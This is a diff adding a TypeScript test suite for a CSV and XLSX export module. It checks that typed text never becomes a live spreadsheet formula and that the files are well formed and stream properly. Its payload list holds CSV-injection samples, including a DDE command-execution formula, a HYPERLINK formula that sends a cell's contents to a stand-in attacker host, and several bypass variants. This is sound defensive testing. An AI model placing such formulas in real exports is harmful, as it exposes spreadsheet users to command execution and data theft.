@@ -1,0 +1,167 @@
+import assert from 'node:assert/strict'
+import type { Readable } from 'node:stream'
+import { buffer } from 'node:stream/consumers'
+import { describe, test } from 'node:test'
+import fc from 'fast-check'
+import type { Cell, Heading } from '../../server/exports/cells.ts'
+import { csvCell, csvFile } from '../../server/exports/csv.ts'
+import { columnName } from '../../server/exports/sheet.ts'
+import { xlsxFile } from '../../server/exports/xlsx.ts'
+import { readCsv, readSheet } from '../support/xlsx.ts'
+
+const NOW = new Date('2026-11-24T11:02:00Z')
+const HEADINGS: Heading[] = [
+  { label: 'Text', width: 20, kind: 'text' },
+  { label: 'Number', width: 10, kind: 'number' },
+  { label: 'Time', width: 19, kind: 'instant' },
+]
+async function* rows(...parts: Cell[][][]) {
+  yield* parts
+}
+const bytesOf = (stream: Readable) => buffer(stream)
+const csv = async (...lines: Cell[][]) => readCsv((await bytesOf(csvFile(HEADINGS, rows(lines)))).toString('utf8')).slice(1)
+const sheet = async (...lines: Cell[][]) => readSheet(await bytesOf(xlsxFile(HEADINGS, rows(lines), NOW)))
+
+/** What spreadsheets have been made to run by what somebody typed into a form (OWASP, CSV injection), and ways around a naive guard. */
+const FORMULAS = [
+  `=cmd|' /C calc'!A0`,
+  '=HYPERLINK("http://evil.example?x="&A1,"Error")',
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1+1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '\t+254',
+  ' =1+1',
+  '\u00a0=1+1',
+  '\u200b=1+1',
+  '\ufeff=1+1',
+  '"=1+1"',
+  '\uff1d1+1',
+  '\uff0b1+1',
+  '\uff0d1+1',
+  '\uff20SUM(1)',
+  '\ufe661+1',
+  '+254712345678',
+  '-',
+]
+/** A naive program that was told that `;` or a tab separates, and knows no quotes. */
+const naively = (cell: string) => cell.split(/[;\t\r\n]/)
+const BEGINS = /^[\s"\u200b-\u200d\u2060\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20\ufe62\ufe63\ufe66\ufe6b]/
+
+describe('T32 exported cells calculate nothing', () => {
+  for (const text of FORMULAS) {
+    test(`CSV ${JSON.stringify(text)}`, async () => {
+      const [[read = ''] = []] = await csv([text, null, null])
+      assert.ok(read.startsWith("'"), read)
+      for (const part of naively(read)) assert.doesNotMatch(part, BEGINS)
+      // The apostrophes are all that was added.
+      assert.equal(read.replaceAll("'", ''), text.replaceAll("'", ''))
+    })
+    test(`XLSX ${JSON.stringify(text)}`, async () => {
+      const { rows: read, xml } = await sheet([text, null, null])
+      assert.equal(read[1]?.A, text.replaceAll(/\r\n?/g, '\n'))
+      assert.doesNotMatch(xml, /<f[ >]/)
+      assert.match(xml, /<c r="A2" s="3" t="inlineStr">/)
+    })
+  }
+  test('whatever is typed: CSV reads back as it was but for apostrophes, and no part of it begins a formula', async () => {
+    const piece = fc.oneof(fc.constantFrom(...FORMULAS, ';', ',', '"', '""', '\r\n', '\n', '\t', "'", ' '), fc.string({ unit: 'grapheme', maxLength: 8 }))
+    const typed = fc.array(piece, { maxLength: 5 }).map((parts) => parts.join(''))
+    await fc.assert(
+      fc.asyncProperty(fc.array(typed, { minLength: 1, maxLength: 5 }), async (texts) => {
+        const read = await csv(...texts.map((text) => [text, 1, NOW]))
+        assert.equal(read.length, texts.length)
+        for (const [at, [cell = '']] of read.entries()) {
+          for (const part of naively(cell)) assert.doesNotMatch(part, BEGINS)
+          assert.equal(cell.replaceAll("'", ''), texts[at]?.replaceAll("'", ''))
+        }
+      }),
+      { seed: 2_026, numRuns: 300 },
+    )
+  })
+  test('plain text stays as it is', () => {
+    for (const text of ['Wanjiru Ng’ang’a', "O'Brien", 'a=b', 'Jean-Pierre', 'me@example.com', 'Box 1 - Garissa', '']) assert.equal(csvCell(text), text)
+    assert.equal(csvCell('Kamau, J.'), '"Kamau, J."')
+    assert.equal(csvCell('say "yes"'), '"say ""yes"""')
+  })
+})
+
+describe('exported files are what they say', () => {
+  test('XLSX: any text comes back as it was, without what XML cannot hold', async () => {
+    const odd = [
+      '\u0000a\u0007b',
+      'half \ud800 letter',
+      '\ufffe\uffff',
+      ']]>',
+      '<b>&amp;</b>',
+      '_x0041_',
+      '  spaces  ',
+      'two\r\nlines',
+      '🗳️',
+      '"quoted"',
+      'x'.repeat(40_000),
+    ]
+    const { rows: read } = await sheet(...odd.map((text): Cell[] => [text, null, null]))
+    const wanted = ['ab', 'half  letter', '', ']]>', '<b>&amp;</b>', '_x0041_', '  spaces  ', 'two\nlines', '🗳️', '"quoted"', 'x'.repeat(32_767)]
+    assert.deepEqual(
+      read.slice(1).map(({ A }) => A),
+      wanted,
+    )
+  })
+  test('XLSX: numbers and times are numbers; what is not there is no cell; a number that is none is not written', async () => {
+    const { rows: read, xml } = await sheet(['0712', 12, NOW], [null, null, null], ['', Number.NaN, NOW])
+    assert.deepEqual(read.slice(1), [{ A: '0712', B: 12, C: 46_350.584_722_222_22 }, {}, { C: 46_350.584_722_222_22 }])
+    assert.match(xml, /<cols><col min="1" max="1" width="20" customWidth="1"\/>/)
+  })
+  test('columns are named as spreadsheets name them', () => {
+    assert.deepEqual([0, 25, 26, 51, 52, 701, 702].map(columnName), ['A', 'Z', 'AA', 'AZ', 'BA', 'ZZ', 'AAA'])
+  })
+  test('a file without a line has its heading', async () => {
+    assert.deepEqual(await csv(), [])
+    assert.equal((await sheet()).rows.length, 1)
+  })
+  for (const [name, file] of [
+    ['CSV', csvFile],
+    ['XLSX', (headings: Heading[], lines: AsyncIterable<Cell[][]>) => xlsxFile(headings, lines, NOW)],
+  ] as const) {
+    const endless = (seen: { pages: number; ended: boolean }) =>
+      (async function* () {
+        try {
+          for (;;) {
+            seen.pages++
+            yield Array.from({ length: 500 }, (): Cell[] => [`${Math.random()} ${'x'.repeat(200)}`, 1, NOW])
+          }
+        } finally {
+          seen.ended = true
+        }
+      })()
+    test(`${name}: little is made ahead of the reader, and nothing once the reader has left`, { timeout: 10_000 }, async () => {
+      const seen = { pages: 0, ended: false }
+      const stream = file(HEADINGS, endless(seen))
+      const closed = new Promise((done) => stream.once('close', done))
+      await new Promise((done) => stream.once('readable', done))
+      while (seen.pages === 0) {
+        stream.read()
+        await new Promise((done) => setImmediate(done))
+      }
+      for (let turn = 0; turn < 200; turn++) await new Promise((done) => setImmediate(done))
+      assert.ok(seen.pages < 20, `${seen.pages} pages ahead`)
+      stream.destroy()
+      await closed
+      while (!seen.ended) await new Promise((done) => setImmediate(done))
+      const { pages } = seen
+      for (let turn = 0; turn < 50; turn++) await new Promise((done) => setImmediate(done))
+      assert.equal(seen.pages, pages)
+    })
+    test(`${name}: rows that fail break it off`, async () => {
+      const failing = (async function* (): AsyncGenerator<Cell[][]> {
+        yield [['first', 1, NOW]]
+        throw new Error('the database is away')
+      })()
+      await assert.rejects(bytesOf(file(HEADINGS, failing)), /the database is away/)
+    })
+  }
+})
